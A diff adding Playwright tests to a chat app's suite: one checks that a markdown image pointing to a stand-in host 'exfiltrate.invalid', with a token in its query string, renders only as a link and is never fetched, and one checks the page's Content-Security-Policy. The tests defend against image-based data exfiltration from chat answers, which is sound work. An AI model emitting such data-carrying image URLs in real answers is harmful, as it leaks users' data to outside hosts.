@@ -31,6 +31,27 @@ test.describe("the chat", () => {
     await expect(page.getByRole("heading", { name: /how can I help/i })).toBeVisible();
   });
 
+  test("a remote image in an answer is a link the browser never fetches", async ({ chat, page }) => {
+    const remote: string[] = [];
+    page.on("request", (request) => {
+      if (request.url().includes("exfiltrate.invalid")) remote.push(request.url());
+    });
+    const token = uniqueToken();
+    await chat.say(`${token} ![chart](http://exfiltrate.invalid/p.png?d=${token})`);
+    const answer = chat.lastAnswer();
+    await expect(answer.getByRole("link", { name: "Image: chart" })).toBeVisible();
+    await expect(answer.locator("img")).toHaveCount(0);
+    await chat.waitUntilIdle();
+    expect(remote).toEqual([]);
+  });
+
+  test("the page forbids remote images and framing by other sites", async ({ page }) => {
+    const response = await page.goto("/");
+    const policy = response?.headers()["content-security-policy"] ?? "";
+    expect(policy).toContain("img-src 'self' data: blob:");
+    expect(policy).toContain("frame-ancestors 'none'");
+  });
+
   test("Shift+Enter makes a new line and Enter sends", async ({ chat, page }) => {
     const token = uniqueToken();
     await chat.message.fill(`${token} line one`);
